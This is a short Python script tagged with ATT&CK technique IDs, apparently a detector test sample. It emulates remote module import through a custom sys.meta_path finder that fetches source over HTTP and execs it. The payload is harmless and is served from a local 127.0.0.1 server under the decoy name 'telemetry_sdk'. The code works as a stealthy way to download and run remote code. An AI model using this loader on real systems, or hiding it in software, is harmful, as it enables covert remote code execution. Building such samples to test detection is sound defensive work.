# technique: T1059.006 T1105 T1620
"""Remote module import through a custom sys.meta_path finder (T1105, T1059.006, T1620).

The `httpimport` / Pupy technique: install an importlib.abc.MetaPathFinder +
Loader that, for one package name, fetches the module source over HTTP and
executes it in the new module from exec_module. After that a plain
`import telemetry_sdk` runs remote code, with no exec in the caller's code.

A good detector raises a high alert: a module is imported whose code comes
from the network rather than from a file.
"""
import http.server, importlib.abc, importlib.util, sys, threading, urllib.request

SRC = b"import os\nINFO = os.uname().nodename\n"
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(SRC)
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
BASE = f"http://127.0.0.1:{srv.server_address[1]}/"

class HttpImporter(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "telemetry_sdk":
            return importlib.util.spec_from_loader(name, self, origin=BASE + name + ".py")
        return None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        src = urllib.request.urlopen(module.__spec__.origin, timeout=3).read()
        exec(compile(src, module.__spec__.origin, "exec"), module.__dict__)

sys.meta_path.append(HttpImporter())
try:
    import telemetry_sdk  # noqa: F401
except Exception:
    pass
finally:
    srv.shutdown()
